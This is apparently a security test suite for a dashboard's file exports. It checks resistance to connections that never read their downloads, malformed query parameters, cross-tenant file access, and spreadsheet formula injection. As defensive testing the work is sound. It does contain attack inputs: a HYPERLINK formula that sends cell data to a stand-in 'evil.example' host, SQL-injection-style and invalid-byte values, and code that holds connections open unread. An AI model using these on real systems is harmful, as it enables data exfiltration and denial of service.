"""Unread downloads do not slow the dashboard for others."""

from __future__ import annotations

import io
import socket
import statistics
import time
import zipfile
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager

import pytest
import requests
from openpyxl import load_workbook

from core import exports
from core.exports import all_stores
from tests.attack.browsers import tab
from tests.attack.raw_http import connected, status_of
from tests.attack.target import Party, Target

UNREAD = 24
LONG = """
    INSERT INTO deliveries (tenant_id, store_id, webhook_id, topic, body, state, reason, received_at)
    SELECT %s, %s, 'long-' || n, 'carts/update', '', 'ignored', repeat('x', 2000), now()
    FROM generate_series(1, 10000) n
"""


@pytest.fixture(scope="module")
def long_file(target: Target) -> Iterator[str]:
    """The address of an attacker's file that does not fit into the buffers of a connection."""
    party = target.globex
    target.rows(LONG + " RETURNING 1", party.tenant_id, party.store_id)
    yield f"/exports/deliveries.csv?store={party.store_id}&range=30d"
    target.rows("DELETE FROM deliveries WHERE webhook_id LIKE 'long-%%' RETURNING 1")


@contextmanager
def unread(target: Target, address: str) -> Iterator[None]:
    """Open browsers that request a file and never read it."""
    request = f"GET {address} HTTP/1.1\r\nHost: x\r\nCookie: xeno={target.globex.session}\r\n\r\n".encode()
    with ExitStack() as stack:
        for _ in range(UNREAD):
            wire = stack.enter_context(connected(target.installation.web_url))
            wire.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            wire.sendall(request)
            target.tally.note("unread downloads", 200)
        time.sleep(1)
        yield


def seconds(target: Target, address: str, party: Party | None = None) -> float:
    """Return the duration of a successful answer."""
    began = time.perf_counter()
    cookies = {"xeno": party.session} if party else {}
    answer = requests.get(target.installation.web_url + address, cookies=cookies, timeout=20)
    target.tally.note("asked beside unread downloads", answer.status_code)
    assert answer.status_code == 200, answer.text
    return time.perf_counter() - began


def test_unread_downloads_leave_the_dashboard_fast_for_others(target: Target, long_file: str) -> None:
    acme = target.acme
    export = f"/exports/orders.csv?store={acme.store_id}&range=30d"
    with unread(target, long_file):
        durations = [seconds(target, address, acme) for address in ("/readyz", export) * 5]
        with tab(target, acme.session) as acme_tab:
            acme_tab.run()
            assert acme.name in acme_tab.texts()
    # The bound is loose for a busy machine. Without the limit of downloads it took 30 s and then failed.
    assert statistics.median(durations) < 1


def test_a_closed_browser_frees_its_places_at_once(target: Target, long_file: str) -> None:
    with unread(target, long_file):
        pass
    assert seconds(target, long_file, target.globex) < 20


@pytest.mark.parametrize("name", ["search", "topic", "state", "status", "currency", "range", "store", "compare"])
@pytest.mark.parametrize("value", ["%00", "a%00b", "%ff", "%ed%a0%80", "%27%3b--"])
def test_no_parameter_of_an_export_gives_5xx_or_resets_the_connection(target: Target, name: str, value: str) -> None:
    before = target.traces()
    query = f"store={target.acme.store_id}&range=30d&{name}={value}"
    request = f"GET /exports/orders.csv?{query} HTTP/1.1\r\nHost: x\r\nCookie: xeno={target.acme.session}\r\n\r\n"
    status = status_of(target.installation.web_url, request.encode())
    target.tally.note("parameters of exports", status)

    assert status in (200, 400, 404, 429)
    assert target.traces() == before, target.web.log_tail()


FORMULA = '=HYPERLINK("http://evil.example/"&A1,"Total")'
FORMATS = ("csv", "xlsx", "zip")


def sheets(target: Target, file_format: str, name: str, party: Party) -> tuple[int, bytes]:
    """Request a file as `party` about its own store; return the status and the body."""
    address = f"/exports/{name}.{file_format}?store={party.store_id}&range=30d"
    answer = requests.get(target.installation.web_url + address, cookies={"xeno": party.session}, timeout=30)
    return answer.status_code, answer.content


def text_of(body: bytes) -> str:
    """The body, or all that is packed in it, as text."""
    if not body.startswith(b"PK"):
        return body.decode("utf-8", "replace")
    with zipfile.ZipFile(io.BytesIO(body)) as packed:
        return "\n".join(packed.read(name).decode("utf-8", "replace") for name in packed.namelist())


@pytest.mark.parametrize("file_format", FORMATS)
def test_nobody_downloads_a_file_of_another_business_in_any_format(target: Target, file_format: str) -> None:
    acme = target.acme
    for name in exports.EXPORTS:
        address = f"/exports/{name}.{file_format}?store={acme.store_id}"
        answer = requests.get(
            target.installation.web_url + address, cookies={"xeno": target.globex.session}, timeout=30
        )
        target.tally.note("files of another business", answer.status_code)
        assert target.tally.crossed(acme.name in text_of(answer.content)) == 0, name
        assert answer.status_code == 404, name


@pytest.mark.parametrize("file_format", FORMATS)
@pytest.mark.parametrize("name", all_stores.EXPORTS)
def test_a_file_about_all_stores_has_none_of_another_business(target: Target, name: str, file_format: str) -> None:
    acme, globex = target.acme, target.globex
    days = f"{acme.store_id}_2020-01-01_2030-01-01"
    address = f"/exports/{name}.{file_format}?store={globex.store_id}&days={days}"
    answer = requests.get(target.installation.web_url + address, cookies={"xeno": globex.session}, timeout=30)
    target.tally.note("files of another business", answer.status_code)
    assert answer.status_code == 200
    assert target.tally.crossed(acme.name in text_of(answer.content) or acme.shop in text_of(answer.content)) == 0


@pytest.mark.parametrize("file_format", FORMATS)
def test_a_formula_in_a_cell_is_text_in_every_format(target: Target, file_format: str) -> None:
    party = target.globex
    target.rows(
        """INSERT INTO deliveries (tenant_id, store_id, webhook_id, topic, body, state, reason, received_at)
           VALUES (%s, %s, 'formula-' || %s, 'carts/update', '', 'ignored', %s, now()) RETURNING 1""",
        *(party.tenant_id, party.store_id, file_format, FORMULA),
    )
    status, body = sheets(target, file_format, "deliveries", party)
    target.tally.note("formulas in cells", status)
    assert status == 200
    if file_format == "xlsx":
        book = load_workbook(io.BytesIO(body))
        cells = [cell for row in book.worksheets[0].iter_rows() for cell in row if cell.value == FORMULA]
        assert cells
        assert all(cell.data_type == "s" and cell.hyperlink is None for cell in cells)
        return
    text = text_of(body).replace('""', '"')
    assert f"'{FORMULA}" in text
    assert text.count(FORMULA) == text.count(f"'{FORMULA}")
